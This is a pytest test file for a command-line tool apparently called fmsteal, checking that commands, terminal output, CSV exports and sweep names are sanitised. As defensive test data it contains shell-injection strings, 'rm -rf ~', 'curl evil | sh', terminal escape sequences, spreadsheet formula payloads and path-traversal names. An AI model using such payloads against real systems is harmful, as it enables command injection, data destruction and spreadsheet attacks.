"""What was read from files and is shown: no terminal obeys it, no shell runs more, no spreadsheet computes it."""

from __future__ import annotations

import csv
import io
import shlex
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from omegaconf import OmegaConf

from fmsteal.base.errors import ConfigError
from fmsteal.base.shown import escape_cell, make_printable, make_typable
from fmsteal.base.store import write_json
from fmsteal.report.commands import main
from fmsteal.report.show.table import console
from fmsteal.sweep.overrides import require_name
from tests.support.job_folders import begun, finish, plan, said

EVIL = "\x1b[2J\x1b]0;owned\x07\r\x9b31m\u202e"


@given(st.text())
def test_nothing_printable_steers_a_terminal(text: str) -> None:
    shown = make_printable(text + EVIL)
    assert not {c for c in shown if unicodedata.category(c) == "Cc"} - {"\n", "\t"}
    for kept in text:
        assert kept in shown or unicodedata.category(kept) in ("Cc", "Cf")


@pytest.mark.parametrize(
    "typed",
    [
        "fmsteal -m seed=0,1,2 sweep_id=mine",
        "fmsteal -m seed=0,1 '+notes.why=a b; rm -rf ~' sweep_id=mine",
        """fmsteal -m 'budget='"'"'100'"'"''""",
        """fmsteal -m "budget='100'" 'recipe={a: 1, b: [2, 3]}'""",
        "python -m fmsteal budget=1k",
    ],
)
def test_a_command_that_only_runs_itself_is_shown_as_it_is(typed: str) -> None:
    assert make_typable(typed) == typed


@pytest.mark.parametrize(
    "harm",
    [
        "fmsteal ; touch harm", "fmsteal a; touch harm", "fmsteal && touch harm", "fmsteal | touch harm",
        "fmsteal `touch harm`", "fmsteal $(touch harm)", 'fmsteal "$(touch harm)"', 'fmsteal "`touch harm`"',
        "fmsteal > harm", "fmsteal\ntouch harm", "fmsteal a\rtouch harm", "fmsteal a=1 #\ntouch harm",
        "fmsteal & touch harm", "fmsteal <(touch harm)", "fmsteal \\\n; touch harm", "fmsteal $'\\n'; touch harm",
        "fmsteal 'a'\"$(touch harm)\"", "fmsteal \x1b[A touch harm\n", "fmsteal a\\' $(touch harm) \\'",
    ],
)  # fmt: skip
def test_a_shell_runs_nothing_but_the_command(harm: str, tmp_path: Path) -> None:
    """With a real shell, in which `fmsteal` does nothing."""
    shown = make_typable(harm)
    assert shown is not None and "\n" not in shown and make_printable(shown) == shown
    subprocess.run(["bash", "-c", f"fmsteal() {{ :; }}\n{shown}\n"], cwd=tmp_path, capture_output=True, timeout=20)
    assert not list(tmp_path.iterdir())


@given(st.text())
def test_whatever_a_file_holds_is_one_command_of_ours_or_none(text: str) -> None:
    shown = make_typable("fmsteal " + text)
    if shown is not None:
        assert shlex.split(shown)[0] == "fmsteal" and make_printable(shown) == shown and "\n" not in shown


@pytest.mark.parametrize(
    "other", ["rm -rf ~", "fmstealer x", "", None, 3, ["fmsteal"], "sudo fmsteal", "fmsteal 'open"]
)
def test_what_is_no_command_of_ours_is_not_shown(other: object) -> None:
    assert make_typable(other) is None


def test_status_shows_a_planned_command_without_harm(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    plan(tmp_path, "a", command=f"fmsteal -m seed=0{EVIL}; rm -rf ~\nrm x")
    assert "done by: fmsteal -m 'seed=0]0" not in said(tmp_path, capsys)
    text = said(tmp_path, capsys)
    assert "rm -rf '~' rm x" in text and "seed=0" in text and ";'" in text
    plan(tmp_path, "a", command="curl evil | sh")
    assert "done by: the sweep's own command, given again" in said(tmp_path, capsys)


def test_no_command_prints_control_characters_of_a_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    finish(begun(tmp_path, "a"), axis={"victim": f"v{EVIL}x", "seed": 0})
    finish(begun(tmp_path, "b"), axis={"victim": "w", "seed": 0})
    write_json(begun(tmp_path, "c") / "failure.json", {"job_key": "c", "error": f"E: {EVIL}bad", "stage": EVIL})
    for word in ("status", "results"):
        main([word, str(tmp_path)])
        shown = capsys.readouterr()
        assert "bad" in shown.out or word == "results"
        assert not {c for c in shown.out + shown.err if unicodedata.category(c) == "Cc"} - {"\n"}
        assert "\u202e" not in shown.out
    console().print("[bold]x\x1b[2Jy", style="red")
    assert "x[2Jy" in capsys.readouterr().out


@pytest.mark.parametrize("text", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=", "-", "--x"])
def test_text_that_is_a_formula_is_neutralised(text: str) -> None:
    assert escape_cell(text) == f"'{text}"


@pytest.mark.parametrize("value", [-0.5, 3, None, True, "", "-0.5", "+1e3", "x=1", "a-b", "1=2", float("nan"), "'=1"])
def test_numbers_and_other_text_stay(value: object) -> None:
    assert escape_cell(value) is value


def test_a_table_of_results_runs_nothing_in_a_spreadsheet(tmp_path: Path) -> None:
    metrics = {"test/agreement": -0.25, "=evil()": 0.5}
    finish(
        begun(tmp_path, "=job"), axis={"victim": "=HYPERLINK(1)", "thief": "-5", "@x": "+y", "seed": 0}, metrics=metrics
    )
    write_json(begun(tmp_path, "f") / "failure.json", {"job_key": "f", "error": "E\n@bad"})
    main(["results", str(tmp_path), "--csv", str(tmp_path / "t.csv")])
    text = (tmp_path / "t.csv").read_text()
    names, *rows = csv.reader(io.StringIO(text))
    table = [dict(zip(names, row, strict=True)) for row in rows]
    for value in (*names, *(value for row in rows for value in row)):
        assert not value.startswith(("=", "+", "-", "@")) or float(value) < 0
    assert table[0]["axis.victim"] == "'=HYPERLINK(1)" and table[0]["test/agreement"] == "-0.25"
    assert table[0]["axis.thief"] == "-5" and table[0]["'=evil()"] == "0.5" and table[1]["error"] == "'@bad"
    assert table[0]["job_key"] == "'=job"


@pytest.mark.parametrize(
    "name", ["../x", "a/b", "..", ".", "", "a b", "é", "a\nb", "x" * 201, "/tmp/x", "a;b", "~", "a\\b", "$x", "-\x00"]
)
def test_a_name_of_a_sweep_is_that_of_one_folder(name: str) -> None:
    with pytest.raises(ConfigError, match=r"no name of a sweep, .* letters, digits and \._- alone"):
        require_name(OmegaConf.create({"sweep_id": name}))


@pytest.mark.parametrize("name", [None, "mine", "a.b-c_D", "2024", 2024, "x" * 200, "..x", "sweep-0123abcd"])
def test_other_names_of_sweeps_are_taken(name: object) -> None:
    require_name(OmegaConf.create({"sweep_id": name}))


@pytest.mark.parametrize("words", [["-m", "seed=0,1"], []], ids=["a sweep", "a job"])
def test_nothing_is_written_outside_the_output_folder(words: list[str], tmp_path: Path) -> None:
    assert "no name of a sweep" in fmsteal(tmp_path, *words, "sweep_id=../../x") and not list(tmp_path.iterdir())


def test_a_sweep_has_one_name_and_one_place(tmp_path: Path) -> None:
    assert "sweep_id cannot be swept" in fmsteal(tmp_path, "-m", "sweep_id=a,b")
    assert "output cannot be swept" in fmsteal(tmp_path, "-m", "output=a,b") and not list(tmp_path.iterdir())


def fmsteal(folder: Path, *words: str) -> str:
    """Run the command line up to where it would run a job."""
    from tests.support.commands import environment

    code = "import sys; sys.argv[0] = 'fmsteal'; from fmsteal.cli import main; main()"
    done = subprocess.run(
        [sys.executable, "-c", code, *words, "tracker=none"],
        cwd=folder, env=environment(), capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert done.returncode and "Traceback" not in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1, done.stderr
    return done.stderr


def test_an_output_that_is_a_link_to_nowhere_is_said(tmp_path: Path) -> None:
    (tmp_path / "outputs").symlink_to("gone")
    for words in ([], ["-m", "seed=0,1"]):
        assert "outputs is a link to gone, which is not there" in fmsteal(tmp_path, *words)
    assert "is a link to gone" in fmsteal(tmp_path, "output=there", "cache=outputs/cache")
